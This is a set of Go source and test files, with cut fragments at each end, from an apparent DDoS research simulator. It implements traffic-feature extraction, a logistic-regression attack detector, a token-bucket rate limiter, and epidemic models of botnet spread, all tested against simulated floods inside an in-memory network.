		if len(data) == 0 {
			return fault == nil
		}
		inRW := rw.Contains(addr) && addr+uint64(len(data)) <= rw.End()
		return (fault == nil) == inRW
	}
	if err := quick.Check(f, &quick.Config{MaxCount: 300}); err != nil {
		t.Fatal(err)
	}
}
