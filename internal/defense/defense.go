// Package defense implements the paper's first use case (§V-A):
// testing DDoS defenses inside the simulation. It extracts per-second
// traffic features at TServer (packet rate, byte rate, mean packet
// size, source count, source entropy), trains a logistic-regression
// classifier on labeled benign/attack windows — entirely in stdlib Go —
// and evaluates detection quality.
package defense

import (
	"math"
	"math/rand"
	"net/netip"
	"strconv"

	"ddosim/internal/netsim"
	"ddosim/internal/sim"
)

// NumFeatures is the dimensionality of a feature vector.
const NumFeatures = 5

// FeatureVector summarizes one second of traffic at the target.
type FeatureVector struct {
	PacketRate      float64
	ByteRate        float64
	MeanPacketSize  float64
	DistinctSources float64
	SourceEntropy   float64
}

// Slice renders the vector for the classifier.
func (f FeatureVector) Slice() []float64 {
	return []float64{f.PacketRate, f.ByteRate, f.MeanPacketSize, f.DistinctSources, f.SourceEntropy}
}

type windowAgg struct {
	packets int
	bytes   int
	bySrc   map[netip.Addr]int
}

// Extractor taps a node and aggregates per-second windows — the
// "extraction of network traffic at any layer" the paper highlights.
type Extractor struct {
	windows map[int64]*windowAgg
}

// NewExtractor installs a tap on node and begins aggregating.
func NewExtractor(node *netsim.Node) *Extractor {
	e := &Extractor{windows: make(map[int64]*windowAgg)}
	node.AddTap(func(at sim.Time, pkt *netsim.Packet) {
		sec := int64(at / sim.Second)
		w := e.windows[sec]
		if w == nil {
			w = &windowAgg{bySrc: make(map[netip.Addr]int)}
			e.windows[sec] = w
		}
		w.packets++
		w.bytes += pkt.PayloadSize()
		w.bySrc[pkt.Src.Addr()]++
	})
	return e
}

// Window returns the feature vector for one second (zero vector for
// quiet seconds).
func (e *Extractor) Window(sec int64) FeatureVector {
	w := e.windows[sec]
	if w == nil || w.packets == 0 {
		return FeatureVector{}
	}
	entropy := 0.0
	for _, n := range w.bySrc {
		p := float64(n) / float64(w.packets)
		entropy -= p * math.Log2(p)
	}
	return FeatureVector{
		PacketRate:      float64(w.packets),
		ByteRate:        float64(w.bytes),
		MeanPacketSize:  float64(w.bytes) / float64(w.packets),
		DistinctSources: float64(len(w.bySrc)),
		SourceEntropy:   entropy,
	}
}

// Windows returns vectors for every second in [from, to).
func (e *Extractor) Windows(from, to int64) []FeatureVector {
	out := make([]FeatureVector, 0, to-from)
	for sec := from; sec < to; sec++ {
		out = append(out, e.Window(sec))
	}
	return out
}

// Sample is one labeled training/evaluation instance.
type Sample struct {
	X      []float64
	Attack bool
}

// Logistic is a standardized logistic-regression classifier.
type Logistic struct {
	W    []float64
	B    float64
	Mean []float64
	Std  []float64
}

// Train fits a classifier with plain gradient descent. Deterministic
// for a fixed seed.
func Train(samples []Sample, epochs int, lr float64, seed int64) *Logistic {
	if len(samples) == 0 {
		return &Logistic{W: make([]float64, NumFeatures), Mean: make([]float64, NumFeatures), Std: ones(NumFeatures)}
	}
	d := len(samples[0].X)
	m := &Logistic{W: make([]float64, d), Mean: make([]float64, d), Std: make([]float64, d)}

	// Standardize features.
	for _, s := range samples {
		for j, v := range s.X {
			m.Mean[j] += v
		}
	}
	for j := range m.Mean {
		m.Mean[j] /= float64(len(samples))
	}
	for _, s := range samples {
		for j, v := range s.X {
			dv := v - m.Mean[j]
			m.Std[j] += dv * dv
		}
	}
	for j := range m.Std {
		m.Std[j] = math.Sqrt(m.Std[j] / float64(len(samples)))
		if m.Std[j] < 1e-9 {
			m.Std[j] = 1
		}
	}

	rng := rand.New(rand.NewSource(seed))
	idx := make([]int, len(samples))
	for i := range idx {
		idx[i] = i
	}
	for epoch := 0; epoch < epochs; epoch++ {
		rng.Shuffle(len(idx), func(i, j int) { idx[i], idx[j] = idx[j], idx[i] })
		for _, i := range idx {
			s := samples[i]
			p := m.Predict(s.X)
			y := 0.0
			if s.Attack {
				y = 1
			}
			g := p - y
			for j, v := range s.X {
				m.W[j] -= lr * g * m.standardize(j, v)
			}
			m.B -= lr * g
		}
	}
	return m
}

func ones(n int) []float64 {
	out := make([]float64, n)
	for i := range out {
		out[i] = 1
	}
	return out
}

func (m *Logistic) standardize(j int, v float64) float64 {
	return (v - m.Mean[j]) / m.Std[j]
}

// Predict returns the attack probability for a raw feature vector.
func (m *Logistic) Predict(x []float64) float64 {
	z := m.B
	for j, v := range x {
		z += m.W[j] * m.standardize(j, v)
	}
	return 1 / (1 + math.Exp(-z))
}

// Classify thresholds Predict at 0.5.
func (m *Logistic) Classify(x []float64) bool { return m.Predict(x) >= 0.5 }

// Confusion tallies classification outcomes.
type Confusion struct {
	TP, FP, TN, FN int
}

// Evaluate classifies every sample and tallies the confusion matrix.
func Evaluate(m *Logistic, samples []Sample) Confusion {
	var c Confusion
	for _, s := range samples {
		pred := m.Classify(s.X)
		switch {
		case pred && s.Attack:
			c.TP++
		case pred && !s.Attack:
			c.FP++
		case !pred && !s.Attack:
			c.TN++
		default:
			c.FN++
		}
	}
	return c
}

// Accuracy reports (TP+TN)/total.
func (c Confusion) Accuracy() float64 {
	total := c.TP + c.FP + c.TN + c.FN
	if total == 0 {
		return 0
	}
	return float64(c.TP+c.TN) / float64(total)
}

// Precision reports TP/(TP+FP).
func (c Confusion) Precision() float64 {
	if c.TP+c.FP == 0 {
		return 0
	}
	return float64(c.TP) / float64(c.TP+c.FP)
}

// Recall reports TP/(TP+FN).
func (c Confusion) Recall() float64 {
	if c.TP+c.FN == 0 {
		return 0
	}
	return float64(c.TP) / float64(c.TP+c.FN)
}

// F1 is the harmonic mean of precision and recall.
func (c Confusion) F1() float64 {
	p, r := c.Precision(), c.Recall()
	if p+r == 0 {
		return 0
	}
	return 2 * p * r / (p + r)
}

// BenignClient periodically sends small telemetry datagrams to the
// target — the "normal traffic" the paper mixes with attack traffic
// when testing classifiers.
type BenignClient struct {
	sock *netsim.UDPSocket
}

// InstallBenignClients attaches n telemetry clients to the star and
// points them at dst. Each sends a 60–400 byte datagram every
// 0.5–2.5 s.
func InstallBenignClients(star *netsim.Star, dst netip.AddrPort, n int, namePrefix string) ([]*BenignClient, error) {
	sched := star.Net.Sched()
	rng := sched.RNG()
	out := make([]*BenignClient, 0, n)
	for i := 0; i < n; i++ {
		host := star.AttachHost(
			namePrefix+"-"+strconv.Itoa(i), 2*netsim.Mbps, 2*sim.Millisecond, 0)
		sock, err := host.BindUDP(0, nil)
		if err != nil {
			return nil, err
		}
		c := &BenignClient{sock: sock}
		out = append(out, c)
		period := 500*sim.Millisecond + sim.Time(rng.Int63n(int64(2*sim.Second)))
		size := 60 + rng.Intn(340)
		t := sim.NewTicker(sched, period, func() {
			c.sock.SendPadded(dst, nil, size)
		})
		t.StartImmediate()
	}
	return out, nil
}
