package defense

import (
	"net/netip"

	"ddosim/internal/netsim"
	"ddosim/internal/sim"
)

// RateLimiter is a deployable mitigation (§V-A's second half: not
// just detecting attacks but defending in the simulation): a per-source
// token-bucket firewall installed as the target node's ingress filter.
// Sources that exceed their budget are dropped — and optionally
// blacklisted outright once they misbehave.
type RateLimiter struct {
	node *netsim.Node

	// BytesPerSec is each source's sustained budget.
	BytesPerSec float64
	// BurstBytes is the bucket depth.
	BurstBytes float64
	// BlacklistAfter permanently blocks a source after this many
	// dropped packets (0 disables blacklisting).
	BlacklistAfter int

	buckets   map[netip.Addr]*bucket
	blacklist map[netip.Addr]bool

	// Accepted/Dropped count filter decisions.
	Accepted uint64
	Dropped  uint64
}

type bucket struct {
	tokens float64
	last   sim.Time
	drops  int
}

// InstallRateLimiter deploys the mitigation on node. Pass the
// per-source sustained byte rate and burst depth.
func InstallRateLimiter(node *netsim.Node, bytesPerSec, burstBytes float64, blacklistAfter int) *RateLimiter {
	rl := &RateLimiter{
		node:           node,
		BytesPerSec:    bytesPerSec,
		BurstBytes:     burstBytes,
		BlacklistAfter: blacklistAfter,
		buckets:        make(map[netip.Addr]*bucket),
		blacklist:      make(map[netip.Addr]bool),
	}
	node.SetFilter(rl.admit)
	return rl
}

// Uninstall removes the filter, letting traffic flow freely again.
func (rl *RateLimiter) Uninstall() { rl.node.SetFilter(nil) }

// Blacklisted reports how many sources are permanently blocked.
func (rl *RateLimiter) Blacklisted() int { return len(rl.blacklist) }

func (rl *RateLimiter) admit(pkt *netsim.Packet) bool {
	src := pkt.Src.Addr()
	if rl.blacklist[src] {
		rl.Dropped++
		return false
	}
	now := rl.node.Sched().Now()
	b := rl.buckets[src]
	if b == nil {
		b = &bucket{tokens: rl.BurstBytes, last: now}
		rl.buckets[src] = b
	}
	// Refill.
	b.tokens += (now - b.last).Seconds() * rl.BytesPerSec
	if b.tokens > rl.BurstBytes {
		b.tokens = rl.BurstBytes
	}
	b.last = now

	cost := float64(pkt.Size())
	if b.tokens >= cost {
		b.tokens -= cost
		rl.Accepted++
		return true
	}
	b.drops++
	rl.Dropped++
	if rl.BlacklistAfter > 0 && b.drops >= rl.BlacklistAfter {
		rl.blacklist[src] = true
	}
	return false
}
