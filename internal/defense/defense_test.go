package defense

import (
	"math"
	"net/netip"
	"testing"

	"ddosim/internal/netsim"
	"ddosim/internal/sim"
)

// buildScenario runs benign clients for the whole window and a flood
// during [attackFrom, attackTo), returning the extractor.
func buildScenario(t *testing.T, benign, bots int, attackFrom, attackTo int64, horizon sim.Time) *Extractor {
	t.Helper()
	sched := sim.NewScheduler(31)
	w := netsim.New(sched)
	star := netsim.NewStar(w)
	ts := star.AttachHostAsym("tserver", 10*netsim.Mbps, 25*netsim.Mbps, sim.Millisecond, 0)
	if _, err := netsim.InstallSink(ts, 80); err != nil {
		t.Fatal(err)
	}
	ext := NewExtractor(ts)
	dst := netip.AddrPortFrom(ts.Addr4(), 80)
	if _, err := InstallBenignClients(star, dst, benign, "benign"); err != nil {
		t.Fatal(err)
	}
	for i := 0; i < bots; i++ {
		host := star.AttachHost("bot-"+string(rune('a'+i)), 300*netsim.Kbps, sim.Millisecond, 0)
		sock, err := host.BindUDP(0, nil)
		if err != nil {
			t.Fatal(err)
		}
		interval := (300 * netsim.Kbps).TxTime(512 + 46)
		var flood func()
		flood = func() {
			now := sched.Now()
			if now >= sim.Time(attackTo)*sim.Second {
				return
			}
			sock.SendPadded(dst, nil, 512)
			sched.Schedule(interval, flood)
		}
		sched.ScheduleAt(sim.Time(attackFrom)*sim.Second, flood)
	}
	if err := sched.Run(horizon); err != nil {
		t.Fatal(err)
	}
	return ext
}

func labeled(ext *Extractor, from, to, attackFrom, attackTo int64) []Sample {
	var out []Sample
	for sec := from; sec < to; sec++ {
		out = append(out, Sample{
			X:      ext.Window(sec).Slice(),
			Attack: sec >= attackFrom && sec < attackTo,
		})
	}
	return out
}

func TestDetectorPipeline(t *testing.T) {
	// 60s benign-only, 60s attack, 60s benign again.
	ext := buildScenario(t, 6, 8, 60, 120, 200*sim.Second)
	train := labeled(ext, 5, 100, 60, 120) // train on a prefix
	test := labeled(ext, 100, 180, 60, 120)

	m := Train(train, 200, 0.1, 1)
	c := Evaluate(m, test)
	if acc := c.Accuracy(); acc < 0.9 {
		t.Fatalf("accuracy = %.2f, want >= 0.9 (confusion %+v)", acc, c)
	}
	if c.Recall() < 0.8 {
		t.Fatalf("recall = %.2f (confusion %+v)", c.Recall(), c)
	}
	if f1 := c.F1(); f1 <= 0 || f1 > 1 {
		t.Fatalf("F1 = %v", f1)
	}
}

func TestFeaturesSeparate(t *testing.T) {
	ext := buildScenario(t, 5, 10, 30, 60, 90*sim.Second)
	benignWin := ext.Window(10)
	attackWin := ext.Window(45)
	if attackWin.PacketRate <= benignWin.PacketRate*2 {
		t.Fatalf("attack packet rate %.0f not clearly above benign %.0f",
			attackWin.PacketRate, benignWin.PacketRate)
	}
	if attackWin.ByteRate <= benignWin.ByteRate {
		t.Fatal("attack byte rate not above benign")
	}
	if attackWin.DistinctSources <= benignWin.DistinctSources {
		t.Fatal("attack source count not above benign")
	}
}

func TestQuietWindowIsZero(t *testing.T) {
	sched := sim.NewScheduler(1)
	w := netsim.New(sched)
	star := netsim.NewStar(w)
	ts := star.AttachHost("tserver", netsim.Mbps, 0, 0)
	ext := NewExtractor(ts)
	if got := ext.Window(5); got != (FeatureVector{}) {
		t.Fatalf("quiet window = %+v", got)
	}
	if got := ext.Windows(0, 3); len(got) != 3 {
		t.Fatalf("Windows = %d entries", len(got))
	}
}

func TestEntropyBounds(t *testing.T) {
	ext := buildScenario(t, 8, 0, 0, 0, 60*sim.Second)
	for sec := int64(5); sec < 50; sec++ {
		fv := ext.Window(sec)
		if fv.PacketRate == 0 {
			continue
		}
		maxEntropy := math.Log2(fv.DistinctSources)
		if fv.SourceEntropy < 0 || fv.SourceEntropy > maxEntropy+1e-9 {
			t.Fatalf("sec %d: entropy %.3f outside [0, %.3f]", sec, fv.SourceEntropy, maxEntropy)
		}
	}
}

func TestConfusionMetrics(t *testing.T) {
	c := Confusion{TP: 8, FP: 2, TN: 9, FN: 1}
	if got := c.Accuracy(); math.Abs(got-0.85) > 1e-9 {
		t.Fatalf("accuracy = %v", got)
	}
	if got := c.Precision(); math.Abs(got-0.8) > 1e-9 {
		t.Fatalf("precision = %v", got)
	}
	if got := c.Recall(); math.Abs(got-8.0/9.0) > 1e-9 {
		t.Fatalf("recall = %v", got)
	}
	if got := c.F1(); got <= 0 || got >= 1 {
		t.Fatalf("f1 = %v", got)
	}
	var zero Confusion
	if zero.Accuracy() != 0 || zero.Precision() != 0 || zero.Recall() != 0 || zero.F1() != 0 {
		t.Fatal("zero confusion metrics not zero")
	}
}

func TestTrainEmptyAndDeterministic(t *testing.T) {
	m := Train(nil, 10, 0.1, 1)
	if m == nil || len(m.W) != NumFeatures {
		t.Fatalf("empty-train model = %+v", m)
	}
	samples := []Sample{
		{X: []float64{1, 1, 1, 1, 1}, Attack: false},
		{X: []float64{100, 100, 100, 100, 2}, Attack: true},
		{X: []float64{2, 2, 2, 2, 1}, Attack: false},
		{X: []float64{90, 120, 80, 90, 2}, Attack: true},
	}
	a := Train(samples, 100, 0.1, 7)
	b := Train(samples, 100, 0.1, 7)
	for j := range a.W {
		if a.W[j] != b.W[j] {
			t.Fatal("same seed trained different weights")
		}
	}
	if !a.Classify(samples[1].X) || a.Classify(samples[0].X) {
		t.Fatal("model failed trivially separable data")
	}
}

func TestPredictRange(t *testing.T) {
	samples := []Sample{
		{X: []float64{1, 2, 3, 4, 5}, Attack: false},
		{X: []float64{9, 8, 7, 6, 5}, Attack: true},
	}
	m := Train(samples, 50, 0.2, 1)
	for _, s := range samples {
		p := m.Predict(s.X)
		if p < 0 || p > 1 || math.IsNaN(p) {
			t.Fatalf("probability %v out of range", p)
		}
	}
}
