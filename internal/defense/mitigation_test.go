package defense

import (
	"net/netip"
	"testing"

	"ddosim/internal/netsim"
	"ddosim/internal/sim"
)

// mitigationRig: one benign (slow) sender, one flooding sender, a
// sink behind a rate limiter.
func mitigationRig(t *testing.T, limiter bool) (sched *sim.Scheduler, sink *netsim.Sink, rl *RateLimiter, benignAddr, botAddr netip.Addr) {
	t.Helper()
	sched = sim.NewScheduler(41)
	w := netsim.New(sched)
	star := netsim.NewStar(w)
	ts := star.AttachHostAsym("tserver", 10*netsim.Mbps, 25*netsim.Mbps, sim.Millisecond, 0)
	var err error
	sink, err = netsim.InstallSink(ts, 80)
	if err != nil {
		t.Fatal(err)
	}
	if limiter {
		// 20 kbps per source sustained, 8 KB burst, blacklist after
		// 200 dropped packets.
		rl = InstallRateLimiter(ts, 2500, 8192, 200)
	}
	dst := netip.AddrPortFrom(ts.Addr4(), 80)

	benign := star.AttachHost("benign", 2*netsim.Mbps, sim.Millisecond, 0)
	benignAddr = benign.Addr4()
	bsock, _ := benign.BindUDP(0, nil)
	bt := sim.NewTicker(sched, sim.Second, func() { bsock.SendPadded(dst, nil, 200) })
	bt.StartImmediate()

	bot := star.AttachHost("bot", 500*netsim.Kbps, sim.Millisecond, 0)
	botAddr = bot.Addr4()
	fsock, _ := bot.BindUDP(0, nil)
	interval := (500 * netsim.Kbps).TxTime(512 + 42 + 14)
	var flood func()
	flood = func() {
		fsock.SendPadded(dst, nil, 512)
		sched.Schedule(interval, flood)
	}
	sched.Schedule(0, flood)
	return sched, sink, rl, benignAddr, botAddr
}

func TestRateLimiterCutsFloodKeepsBenign(t *testing.T) {
	// Baseline without mitigation.
	sched, sink, _, benignAddr, botAddr := mitigationRig(t, false)
	if err := sched.Run(60 * sim.Second); err != nil {
		t.Fatal(err)
	}
	baseFlood := sink.BytesFrom(botAddr)
	baseBenign := sink.BytesFrom(benignAddr)
	if baseFlood == 0 || baseBenign == 0 {
		t.Fatalf("baseline: flood=%d benign=%d", baseFlood, baseBenign)
	}

	// Mitigated run.
	sched2, sink2, rl, benignAddr2, botAddr2 := mitigationRig(t, true)
	if err := sched2.Run(60 * sim.Second); err != nil {
		t.Fatal(err)
	}
	mitFlood := sink2.BytesFrom(botAddr2)
	mitBenign := sink2.BytesFrom(benignAddr2)

	if mitFlood*10 > baseFlood {
		t.Fatalf("mitigation only cut flood to %d of %d bytes", mitFlood, baseFlood)
	}
	if float64(mitBenign) < 0.95*float64(baseBenign) {
		t.Fatalf("mitigation harmed benign traffic: %d vs %d", mitBenign, baseBenign)
	}
	if rl.Dropped == 0 || rl.Accepted == 0 {
		t.Fatalf("filter counters: accepted=%d dropped=%d", rl.Accepted, rl.Dropped)
	}
	if rl.Blacklisted() != 1 {
		t.Fatalf("blacklisted = %d, want the bot only", rl.Blacklisted())
	}
}

func TestRateLimiterUninstall(t *testing.T) {
	sched, sink, rl, _, botAddr := mitigationRig(t, true)
	if err := sched.Run(30 * sim.Second); err != nil {
		t.Fatal(err)
	}
	blocked := sink.BytesFrom(botAddr)
	rl.Uninstall()
	if err := sched.Run(60 * sim.Second); err != nil {
		t.Fatal(err)
	}
	after := sink.BytesFrom(botAddr)
	if after <= blocked {
		t.Fatal("traffic did not resume after Uninstall")
	}
}

func TestFilterDropsCountedOnNode(t *testing.T) {
	sched, _, _, _, _ := mitigationRig(t, true)
	if err := sched.Run(30 * sim.Second); err != nil {
		t.Fatal(err)
	}
	// The rig keeps no node handle; rebuild quickly to check counters.
	sched2 := sim.NewScheduler(1)
	w := netsim.New(sched2)
	star := netsim.NewStar(w)
	ts := star.AttachHost("ts", netsim.Mbps, 0, 0)
	if _, err := netsim.InstallSink(ts, 80); err != nil {
		t.Fatal(err)
	}
	ts.SetFilter(func(*netsim.Packet) bool { return false })
	src := star.AttachHost("src", netsim.Mbps, 0, 0)
	sock, _ := src.BindUDP(0, nil)
	sock.SendPadded(netip.AddrPortFrom(ts.Addr4(), 80), nil, 100)
	if err := sched2.Run(10 * sim.Second); err != nil {
		t.Fatal(err)
	}
	if ts.FilterDrops() != 1 {
		t.Fatalf("FilterDrops = %d", ts.FilterDrops())
	}
}
