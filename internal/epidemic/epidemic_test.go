package epidemic

import (
	"math"
	"testing"
)

func TestExternalModelClosedForm(t *testing.T) {
	// dI/dt = lambda(N-I) has closed form N(1 - e^{-lambda t}).
	p := ExternalParams{Lambda: 0.1, N: 100}
	times, inf := SimulateExternal(p, 0.01, 50)
	for k := 0; k < len(times); k += 500 {
		want := p.N * (1 - math.Exp(-p.Lambda*times[k]))
		if math.Abs(inf[k]-want) > 0.05 {
			t.Fatalf("t=%.1f: I=%v, closed form %v", times[k], inf[k], want)
		}
	}
}

func TestSIModelProperties(t *testing.T) {
	p := SIParams{Beta: 0.8, N: 200, I0: 1}
	times, inf := SimulateSI(p, 0.01, 40)
	if len(times) != len(inf) {
		t.Fatal("length mismatch")
	}
	// Monotone non-decreasing, bounded by N, sigmoid saturation.
	for k := 1; k < len(inf); k++ {
		if inf[k] < inf[k-1]-1e-9 {
			t.Fatalf("SI infected decreased at k=%d", k)
		}
		if inf[k] > p.N+1e-6 {
			t.Fatalf("SI infected exceeded N: %v", inf[k])
		}
	}
	if inf[len(inf)-1] < 0.99*p.N {
		t.Fatalf("SI did not saturate: final %v of %v", inf[len(inf)-1], p.N)
	}
}

func TestSIRConservation(t *testing.T) {
	p := SIRParams{Beta: 0.9, Gamma: 0.2, N: 500, I0: 5}
	times, inf, rec := SimulateSIR(p, 0.01, 60)
	if len(times) != len(inf) || len(inf) != len(rec) {
		t.Fatal("length mismatch")
	}
	// S+I+R == N throughout (S implied); I peaks then declines.
	peak := 0.0
	peakIdx := 0
	for k := range inf {
		if inf[k] > peak {
			peak, peakIdx = inf[k], k
		}
		if inf[k] < -1e-6 || rec[k] < -1e-6 {
			t.Fatalf("negative compartment at k=%d", k)
		}
		if inf[k]+rec[k] > p.N+1e-6 {
			t.Fatalf("I+R exceeded N at k=%d", k)
		}
	}
	if peakIdx == 0 || peakIdx == len(inf)-1 {
		t.Fatalf("no epidemic peak: idx=%d", peakIdx)
	}
	if inf[len(inf)-1] > peak/2 {
		t.Fatalf("infection did not decline after peak: final %v, peak %v", inf[len(inf)-1], peak)
	}
}

func TestFitLambdaRecoversTruth(t *testing.T) {
	// Generate a curve from a known lambda, add nothing, and fit.
	const trueLambda = 0.12
	const n = 80
	var c Curve
	for _, tm := range []float64{2, 5, 8, 12, 16, 22, 30, 40} {
		count := int(n*(1-math.Exp(-trueLambda*tm)) + 0.5)
		c.Times = append(c.Times, tm)
		c.Counts = append(c.Counts, count)
	}
	lambda, rmse := FitLambda(c, n, 50)
	if math.Abs(lambda-trueLambda) > 0.02 {
		t.Fatalf("fit lambda = %v, want ~%v (rmse %v)", lambda, trueLambda, rmse)
	}
	if rmse > 1.5 {
		t.Fatalf("rmse = %v", rmse)
	}
}

func TestFitBetaRecoversTruth(t *testing.T) {
	const trueBeta = 0.6
	const n = 120
	pt, pv := SimulateSI(SIParams{Beta: trueBeta, N: n, I0: 1}, 0.01, 40)
	var c Curve
	for _, tm := range []float64{5, 10, 15, 20, 25, 30, 35} {
		c.Times = append(c.Times, tm)
		c.Counts = append(c.Counts, int(sampleAt(pt, pv, tm)+0.5))
	}
	beta, rmse := FitBeta(c, n, 40)
	if math.Abs(beta-trueBeta) > 0.05 {
		t.Fatalf("fit beta = %v, want ~%v (rmse %v)", beta, trueBeta, rmse)
	}
}

func TestExternalFitsDDoSimShapeBetterThanSI(t *testing.T) {
	// DDoSim's infection radiates from one attacker at near-constant
	// per-device rate — concave from the start. The external-force
	// model should fit such a curve better than the sigmoid SI model.
	const n = 60
	var c Curve
	for _, tm := range []float64{2, 4, 6, 8, 10, 14, 18, 24, 30} {
		count := int(n*(1-math.Exp(-0.15*tm)) + 0.5)
		c.Times = append(c.Times, tm)
		c.Counts = append(c.Counts, count)
	}
	_, rmseExt := FitLambda(c, n, 35)
	_, rmseSI := FitBeta(c, n, 35)
	if rmseExt >= rmseSI {
		t.Fatalf("external rmse %v not better than SI rmse %v on a concave curve", rmseExt, rmseSI)
	}
}

func TestRMSEEdgeCases(t *testing.T) {
	if got := RMSE(nil, nil, Curve{}); got != 0 {
		t.Fatalf("empty RMSE = %v", got)
	}
	times := []float64{0, 1, 2}
	values := []float64{0, 10, 20}
	c := Curve{Times: []float64{-1, 0.5, 5}, Counts: []int{0, 5, 20}}
	got := RMSE(times, values, c)
	if math.IsNaN(got) || got < 0 {
		t.Fatalf("RMSE = %v", got)
	}
}

func TestSampleAtInterpolates(t *testing.T) {
	times := []float64{0, 1, 2, 3}
	values := []float64{0, 10, 20, 30}
	if got := sampleAt(times, values, 1.5); math.Abs(got-15) > 1e-9 {
		t.Fatalf("sampleAt(1.5) = %v", got)
	}
	if got := sampleAt(times, values, -5); got != 0 {
		t.Fatalf("clamp low = %v", got)
	}
	if got := sampleAt(times, values, 99); got != 30 {
		t.Fatalf("clamp high = %v", got)
	}
	if got := sampleAt(nil, nil, 1); got != 0 {
		t.Fatalf("empty = %v", got)
	}
}

func TestGoldenSection(t *testing.T) {
	min := goldenSection(func(x float64) float64 { return (x - 0.7) * (x - 0.7) }, 0, 2)
	if math.Abs(min-0.7) > 1e-6 {
		t.Fatalf("golden section found %v, want 0.7", min)
	}
}
