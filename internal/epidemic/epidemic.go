// Package epidemic implements the paper's second use case (§V-B):
// comparing mathematical models of botnet spread against the
// simulation. It provides SI and SIR ordinary-differential-equation
// models integrated with fourth-order Runge-Kutta, an external-force
// infection model matching DDoSim's scan-from-one-attacker topology,
// and least-squares fitting of model parameters to a measured
// infection curve.
package epidemic

import (
	"math"
)

// SIParams parameterizes the classic susceptible-infected contact
// model dI/dt = beta * S * I / N.
type SIParams struct {
	Beta float64
	N    float64
	I0   float64
}

// SimulateSI integrates the SI model with RK4 at step dt over [0, T],
// returning sampled times and infected counts.
func SimulateSI(p SIParams, dt, T float64) (times, infected []float64) {
	deriv := func(i float64) float64 {
		s := p.N - i
		if s < 0 {
			s = 0
		}
		return p.Beta * s * i / p.N
	}
	return integrate(p.I0, deriv, dt, T)
}

// ExternalParams parameterizes the external-force model
// dI/dt = lambda * (N - I): every susceptible is independently
// compromised at rate lambda by an outside attacker. This matches
// DDoSim's experiment topology, where infection radiates from the
// Attacker rather than spreading bot-to-bot.
type ExternalParams struct {
	Lambda float64
	N      float64
}

// SimulateExternal integrates the external-force model.
func SimulateExternal(p ExternalParams, dt, T float64) (times, infected []float64) {
	deriv := func(i float64) float64 {
		s := p.N - i
		if s < 0 {
			s = 0
		}
		return p.Lambda * s
	}
	return integrate(0, deriv, dt, T)
}

// SIRParams parameterizes the SIR model with recovery rate gamma
// (e.g. devices rebooting and shedding the non-persistent Mirai).
type SIRParams struct {
	Beta  float64
	Gamma float64
	N     float64
	I0    float64
}

// SimulateSIR integrates SIR with RK4, returning times, infected, and
// recovered series.
func SimulateSIR(p SIRParams, dt, T float64) (times, infected, recovered []float64) {
	s, i, r := p.N-p.I0, p.I0, 0.0
	t := 0.0
	times = append(times, t)
	infected = append(infected, i)
	recovered = append(recovered, r)
	dS := func(s, i float64) float64 { return -p.Beta * s * i / p.N }
	dI := func(s, i float64) float64 { return p.Beta*s*i/p.N - p.Gamma*i }
	dR := func(i float64) float64 { return p.Gamma * i }
	for t < T {
		// RK4 on the coupled system.
		k1s, k1i, k1r := dS(s, i), dI(s, i), dR(i)
		k2s, k2i, k2r := dS(s+dt/2*k1s, i+dt/2*k1i), dI(s+dt/2*k1s, i+dt/2*k1i), dR(i+dt/2*k1i)
		k3s, k3i, k3r := dS(s+dt/2*k2s, i+dt/2*k2i), dI(s+dt/2*k2s, i+dt/2*k2i), dR(i+dt/2*k2i)
		k4s, k4i, k4r := dS(s+dt*k3s, i+dt*k3i), dI(s+dt*k3s, i+dt*k3i), dR(i+dt*k3i)
		s += dt / 6 * (k1s + 2*k2s + 2*k3s + k4s)
		i += dt / 6 * (k1i + 2*k2i + 2*k3i + k4i)
		r += dt / 6 * (k1r + 2*k2r + 2*k3r + k4r)
		t += dt
		times = append(times, t)
		infected = append(infected, i)
		recovered = append(recovered, r)
	}
	return times, infected, recovered
}

// integrate runs RK4 on a single-variable ODE di/dt = f(i).
func integrate(i0 float64, f func(float64) float64, dt, T float64) (times, infected []float64) {
	i, t := i0, 0.0
	times = append(times, t)
	infected = append(infected, i)
	for t < T {
		k1 := f(i)
		k2 := f(i + dt/2*k1)
		k3 := f(i + dt/2*k2)
		k4 := f(i + dt*k3)
		i += dt / 6 * (k1 + 2*k2 + 2*k3 + k4)
		t += dt
		times = append(times, t)
		infected = append(infected, i)
	}
	return times, infected
}

// Curve is a measured infection curve: counts[i] devices infected by
// times[i] seconds.
type Curve struct {
	Times  []float64
	Counts []int
}

// RMSE evaluates a model series against the measured curve by
// sampling the model at each measurement time (nearest sample).
func RMSE(modelTimes, modelValues []float64, c Curve) float64 {
	if len(c.Times) == 0 {
		return 0
	}
	var sum float64
	for k, t := range c.Times {
		v := sampleAt(modelTimes, modelValues, t)
		d := v - float64(c.Counts[k])
		sum += d * d
	}
	return math.Sqrt(sum / float64(len(c.Times)))
}

func sampleAt(times, values []float64, t float64) float64 {
	if len(times) == 0 {
		return 0
	}
	// Times are uniform ascending; binary-search-free index.
	if t <= times[0] {
		return values[0]
	}
	last := len(times) - 1
	if t >= times[last] {
		return values[last]
	}
	dt := times[1] - times[0]
	idx := int(t / dt)
	if idx >= last {
		idx = last - 1
	}
	// Linear interpolation.
	frac := (t - times[idx]) / dt
	return values[idx]*(1-frac) + values[idx+1]*frac
}

// FitLambda fits the external-force model's lambda to a measured
// curve by golden-section search on RMSE.
func FitLambda(c Curve, n int, horizon float64) (lambda, rmse float64) {
	eval := func(l float64) float64 {
		t, v := SimulateExternal(ExternalParams{Lambda: l, N: float64(n)}, horizon/2000, horizon)
		return RMSE(t, v, c)
	}
	lambda = goldenSection(eval, 1e-5, 2.0)
	return lambda, eval(lambda)
}

// FitBeta fits the SI contact model's beta to a measured curve (with
// one initial infection) by golden-section search on RMSE.
func FitBeta(c Curve, n int, horizon float64) (beta, rmse float64) {
	eval := func(b float64) float64 {
		t, v := SimulateSI(SIParams{Beta: b, N: float64(n), I0: 1}, horizon/2000, horizon)
		return RMSE(t, v, c)
	}
	beta = goldenSection(eval, 1e-5, 5.0)
	return beta, eval(beta)
}

// goldenSection minimizes a unimodal function on [lo, hi].
func goldenSection(f func(float64) float64, lo, hi float64) float64 {
	const phi = 1.618033988749895
	const iters = 80
	a, b := lo, hi
	c := b - (b-a)/phi
	d := a + (b-a)/phi
	fc, fd := f(c), f(d)
	for i := 0; i < iters; i++ {
		if fc < fd {
			b, d, fd = d, c, fc
			c = b - (b-a)/phi
			fc = f(c)
		} else {
			a, c, fc = c, d, fd
			d = a + (b-a)/phi
			fd = f(d)
		}
	}
	return (a + b) / 2
}
