package obs

import (
	"bytes"
	"strings"
	"testing"
)

func TestCounterAndGauge(t *testing.T) {
	r := NewRegistry()
